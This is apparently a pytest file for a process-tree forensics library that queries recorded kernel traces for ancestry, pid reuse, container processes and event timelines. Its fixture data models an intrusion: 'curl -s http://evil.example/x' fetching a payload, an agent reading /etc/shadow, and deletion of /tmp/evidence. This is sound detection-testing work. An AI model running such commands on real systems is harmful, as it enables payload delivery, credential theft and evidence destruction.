"""Process trees: exact ancestors, descendants, pid reuse, ps sets, containers, timelines."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.query.conftest import CONTAINER, Recorder, Scenario, at
from tracee_py import proctree
from tracee_py.errors import NotFoundError, UsageError
from tracee_py.proctree import AmbiguousProcessError
from tracee_py.proctree import index as index_module
from tracee_py.query import open_dataset


@pytest.fixture
def ds(scenario: Scenario):  # type: ignore[no-untyped-def]
    with open_dataset(scenario.root) as d:
        yield d


def names(scenario: Scenario, ids: list[int]) -> list[str]:
    by_id = {v: k for k, v in scenario.ids.items()}
    return [by_id[i] for i in ids]


def test_ancestors_nearest_first(ds, scenario: Scenario) -> None:  # type: ignore[no-untyped-def]
    found = proctree.ancestors(ds, scenario.id("alpha:curl"))
    assert names(scenario, [p.process_id for p in found]) == [
        "alpha:bash",
        "alpha:sshd",
        "alpha:init",
    ]


def test_descendants_depth_first_in_start_order(ds, scenario: Scenario) -> None:  # type: ignore[no-untyped-def]
    found = proctree.descendants(ds, scenario.id("alpha:bash"))
    assert names(scenario, [p.process_id for p in found]) == [
        "alpha:curl", "alpha:python", "alpha:agent", "alpha:ls", "alpha:ghost",
        "alpha:sleep", "alpha:cat"]  # fmt: skip


def test_tree_around_a_process_is_its_chain_and_subtree(ds, scenario: Scenario) -> None:  # type: ignore[no-untyped-def]
    tree = proctree.process_tree(ds, scenario.id("alpha:python"))
    walked = [
        (depth, name)
        for depth, name in ((d, names(scenario, [n.process_id])[0]) for d, n in tree.walk())
    ]
    assert walked == [
        (0, "alpha:init"),
        (1, "alpha:sshd"),
        (2, "alpha:bash"),
        (3, "alpha:python"),
        (4, "alpha:agent"),
    ]
    assert tree.focus == scenario.id("alpha:python")
    assert tree.title == "process 301 (/usr/bin/python3) on alpha"
    python = tree.find(scenario.id("alpha:python"))
    assert python is not None
    assert (python.exit_code, python.file_events, python.net_events) == (0, 0, 0)
    agent = tree.find(scenario.id("alpha:agent"))
    assert agent is not None
    assert (agent.ppid, agent.exit_ns, agent.file_events, agent.net_events, agent.events) == (
        301,
        None,
        2,
        1,
        5,
    )


def test_tree_node_details(ds, scenario: Scenario) -> None:  # type: ignore[no-untyped-def]
    tree = proctree.process_tree(ds, scenario.id("alpha:curl"))
    curl = tree.find(scenario.id("alpha:curl"))
    assert curl is not None
    assert [(e.path, e.argv) for e in curl.execs] == [
        ("/bin/sh", ["sh", "-c", "exec curl -s http://evil.example/x"]),
        ("/usr/bin/curl", ["curl", "-s", "http://evil.example/x"]),
    ]
    assert (curl.pid, curl.start_ns, curl.exit_ns, curl.exit_code) == (300, at(1), at(2), 0)
    assert (curl.file_events, curl.net_events, curl.events) == (1, 1, 7)
    assert curl.parent_exe == "/usr/bin/bash"
    assert len(tree) == 4


def test_window_keeps_descendants_alive_in_it_and_the_way_to_them(ds, scenario: Scenario) -> None:  # type: ignore[no-untyped-def]
    tree = proctree.process_tree(ds, scenario.id("alpha:bash"), from_ns=at(4.5), to_ns=at(6.5))
    bash = tree.find(scenario.id("alpha:bash"))
    assert bash is not None
    below = [
        names(scenario, [n.process_id])[0]
        for _, n in proctree.ProcessTree(roots=bash.children).walk()
    ]
    # python ended at 4s but stays: it is the way to the agent.
    assert below == ["alpha:python", "alpha:agent", "alpha:ls", "alpha:ghost"]


def test_pid_reuse_resolves_by_time(ds, scenario: Scenario) -> None:  # type: ignore[no-untyped-def]
    assert proctree.resolve_pid(ds, 400, at_ns=at(5.2)).process_id == scenario.id("alpha:ls")
    assert proctree.resolve_pid(ds, 400, at_ns=at(20.5)).process_id == scenario.id("alpha:cat")
    assert proctree.resolve_pid(ds, 300, at_ns=at(1.5)).process_id == scenario.id("alpha:curl")
    assert proctree.resolve_pid(ds, 300, at_ns=at(2.5)).process_id == scenario.id("beta:curl")


def test_reused_pid_without_a_time_is_ambiguous(ds, scenario: Scenario) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(AmbiguousProcessError) as err:
        proctree.resolve_pid(ds, 400)
    assert [c.process_id for c in err.value.candidates] == [
        scenario.id("alpha:ls"),
        scenario.id("alpha:cat"),
    ]
    message = str(err.value)
    assert message.startswith(
        "pid 400 names 2 processes, pick one with --at TIME, --node or "
        f"--process-id: process_id {scenario.id('alpha:ls')} (alpha, "
        "2026-03-14T10:00:05.000Z to 2026-03-14T10:00:05.500Z, /usr/bin/ls)"
    )
    assert message.endswith("2026-03-14T10:00:20.000Z to 2026-03-14T10:00:21.000Z, /usr/bin/cat)")


def test_same_pid_on_two_nodes_is_ambiguous_until_a_node_is_given(ds, scenario: Scenario) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(AmbiguousProcessError) as err:
        proctree.resolve_pid(ds, 200, at_ns=at(1))
    assert {c.node for c in err.value.candidates} == {"alpha", "beta"}
    assert "pick one with --node" in str(err.value)
    assert proctree.resolve_pid(ds, 200, node="beta").process_id == scenario.id("beta:bash")


def test_pid_not_running_at_that_time(ds, scenario: Scenario) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(NotFoundError) as err:
        proctree.resolve_pid(ds, 400, at_ns=at(10))
    assert str(err.value).startswith(
        "pid 400 was not running at 2026-03-14T10:00:10.000000000Z; it ran as process_id"
    )


def test_unknown_pid_and_process_id(ds) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(NotFoundError) as err:
        proctree.resolve_pid(ds, 4242)
    assert str(err.value) == "pid 4242 is not in the recording"
    with pytest.raises(NotFoundError) as err:
        proctree.find_process(ds, 123456789012)
    assert str(err.value) == "process_id 123456789012 is not in the recording"
    with pytest.raises(NotFoundError) as err:
        proctree.resolve(ds, 123456789012)
    assert str(err.value) == "process_id 123456789012 is not in the recording"


def test_a_number_selects_by_process_id_first_then_by_pid(ds, scenario: Scenario) -> None:  # type: ignore[no-untyped-def]
    assert proctree.resolve(ds, scenario.id("alpha:agent")).pid == 302
    assert proctree.resolve(ds, 302).process_id == scenario.id("alpha:agent")


def test_ps_at_a_moment(ds, scenario: Scenario) -> None:  # type: ignore[no-untyped-def]
    running = proctree.processes_at(ds, at(3.7))
    assert [(p.node, p.pid) for p in running] == [
        ("alpha", 1), ("alpha", 100), ("alpha", 200), ("alpha", 301), ("alpha", 302),
        ("alpha", 650), ("beta", 1), ("beta", 200)]  # fmt: skip
    later = proctree.processes_at(ds, at(20.5), node="alpha")
    assert [p.pid for p in later] == [1, 100, 200, 302, 400, 500, 650, 700, 701]
    assert {p.pid: p.process_id for p in later}[400] == scenario.id("alpha:cat")
    agent = next(p for p in later if p.pid == 302)
    assert (agent.ppid, agent.parent_exe) == (301, "/usr/bin/python3")


def test_ps_filters_by_container_and_pod(ds, scenario: Scenario) -> None:  # type: ignore[no-untyped-def]
    for selector in (
        {"container": "web"},
        {"container": CONTAINER[:12]},
        {"pod": "prod/web-1"},
        {"pod": "web-1"},
        {"pod": "pod-uid-1"},
    ):
        found = proctree.processes_at(ds, at(9.55), **selector)
        assert [p.pid for p in found] == [700, 701], selector
    assert proctree.processes_at(ds, at(9.2), container="web")[0].pid == 700


def test_unknown_container_pod_and_empty_moment(ds) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(NotFoundError) as err:
        proctree.processes_at(ds, at(9.55), container="db")
    assert str(err.value) == "no process ran in container 'db' (containers: web)"
    with pytest.raises(NotFoundError) as err:
        proctree.processes_at(ds, at(9.55), pod="default/web-1")
    assert str(err.value) == "no process ran in pod 'default/web-1' (pods: web-1)"
    with pytest.raises(NotFoundError) as err:
        proctree.processes_at(ds, at(-7200))
    assert str(err.value).startswith("no process was running at 2026-03-14T08:00:00.000000000Z")


def test_forest_of_a_container(ds, scenario: Scenario) -> None:  # type: ignore[no-untyped-def]
    tree = proctree.forest(ds, container="web")
    assert [(d, n.pid) for d, n in tree.walk()] == [(0, 700), (1, 701)]
    assert tree.roots[0].ppid == 650
    assert tree.title == "2 processes container web"


def test_forest_of_a_moment_and_of_a_window(ds) -> None:  # type: ignore[no-untyped-def]
    tree = proctree.forest(ds, at_ns=at(3.7), node="beta")
    assert [(d, n.pid) for d, n in tree.walk()] == [(0, 1), (1, 200)]
    window = proctree.forest(ds, from_ns=at(4.8), to_ns=at(7.5), node="alpha")
    # The agent's parent (python) ended before the window: the agent is a root of its own.
    assert [(d, n.pid) for d, n in window.walk()] == [
        (0, 1),
        (1, 100),
        (2, 200),
        (3, 400),
        (3, 500),
        (3, 600),
        (1, 650),
        (0, 302),
    ]
    assert window.roots[1].ppid == 301
    with pytest.raises(UsageError):
        proctree.forest(ds)


def test_timeline_of_an_exec_chain(ds, scenario: Scenario) -> None:  # type: ignore[no-untyped-def]
    lines = [(e.event, e.summary) for e in proctree.timeline(ds, scenario.id("alpha:curl"))]
    assert lines == [
        ("process_fork", "started, forked by pid 200"),
        ("process_exec", "exec /bin/sh sh -c 'exec curl -s http://evil.example/x'"),
        (
            "process_exec",
            "exec /usr/local/bin/curl curl -s http://evil.example/x FAILED = -2 (ENOENT)",
        ),
        ("process_exec", "exec /usr/bin/curl curl -s http://evil.example/x"),
        ("net_connect", "connect 203.0.113.5:80"),
        ("file_open", "open /tmp/x O_WRONLY|O_CREAT|O_TRUNC -> fd 4"),
        ("process_exit", "exited with code 0"),
    ]


def test_timeline_shows_child_forks_and_descendants_on_request(ds, scenario: Scenario) -> None:  # type: ignore[no-untyped-def]
    python, agent = scenario.id("alpha:python"), scenario.id("alpha:agent")
    own = [(e.pid, e.event, e.summary) for e in proctree.timeline(ds, python)]
    assert own == [
        (301, "process_fork", "started, forked by pid 200"),
        (301, "process_exec", "exec /usr/bin/python3 python3 /tmp/x.py"),
        (302, "process_fork", f"forked child pid 302 (process_id {agent})"),
        (301, "process_exit", "exited with code 0"),
    ]
    full = list(proctree.timeline(ds, python, descendants=True))
    assert [(e.pid, e.tid, e.event) for e in full] == [
        (301, 301, "process_fork"), (301, 301, "process_exec"), (302, 302, "process_fork"),
        (302, 302, "process_exec"), (301, 301, "process_exit"), (302, 302, "file_open"),
        (302, 303, "file_open"), (302, 302, "net_connect")]  # fmt: skip
    assert full[-1].summary == "connect 198.51.100.7:443 = -111 (ECONNREFUSED)"
    # In the family's timeline the agent's fork is the agent starting, not python's fork.
    assert full[2].summary == "started, forked by pid 301"
    assert full[3].summary == "exec /tmp/agent /tmp/agent --daemon"
    opens = list(proctree.timeline(ds, agent, kinds=["file_open"]))
    assert [e.summary for e in opens] == [
        "open /etc/shadow O_RDONLY -> fd 5",
        "open /etc/passwd O_RDONLY -> fd 6",
    ]


def test_timeline_signal_ipv6_and_unlink(ds, scenario: Scenario) -> None:  # type: ignore[no-untyped-def]
    sleep = [e.summary for e in proctree.timeline(ds, scenario.id("alpha:sleep"))]
    assert sleep[-1] == "killed by SIGKILL"
    beta = [e.summary for e in proctree.timeline(ds, scenario.id("beta:curl"))]
    assert "connect [2001:db8::1]:443" in beta
    ghost = [e.summary for e in proctree.timeline(ds, scenario.id("alpha:ghost"))]
    assert ghost == ["unlink /tmp/evidence"]


def test_index_is_cached_and_rebuilt_when_files_change(
    scenario_copy: Scenario, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cache = tmp_path / "cache"
    monkeypatch.setenv("TRACEE_PY_CACHE", str(cache))
    with open_dataset(scenario_copy.root) as ds:
        first = proctree.process_index(ds)
        assert len(first) == 16
    files = list(cache.glob("process-index-*.arrow"))
    assert len(files) == 1 and files[0].stat().st_mode & 0o777 == 0o600

    def no_build(ds):  # type: ignore[no-untyped-def]
        raise AssertionError("the index should come from the cache")

    monkeypatch.setattr(index_module, "build_index_table", no_build)
    with open_dataset(scenario_copy.root) as ds:
        assert proctree.find_process(ds, scenario_copy.ids["alpha:curl"]).pid == 300
    rec = Recorder("beta", "boot-b")
    rec.snapshot("init", 1, None, "/sbin/init", ["/sbin/init"], at(-5))
    rec.write(scenario_copy.root, run="later")
    with open_dataset(scenario_copy.root) as ds, pytest.raises(AssertionError):
        proctree.process_index(ds)


def test_cache_can_be_turned_off_and_a_bad_cache_file_is_rebuilt(
    scenario_copy: Scenario, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TRACEE_PY_CACHE", "off")
    assert proctree.default_cache_dir() is None
    with open_dataset(scenario_copy.root) as ds:
        assert len(proctree.process_index(ds)) == 16
    cache = tmp_path / "cache"
    monkeypatch.setenv("TRACEE_PY_CACHE", str(cache))
    with open_dataset(scenario_copy.root) as ds:
        proctree.process_index(ds)
    (path,) = cache.glob("process-index-*.arrow")
    path.write_bytes(b"garbage")
    with open_dataset(scenario_copy.root) as ds:
        assert len(proctree.process_index(ds)) == 16
    assert path.read_bytes()[:6] == b"ARROW1"
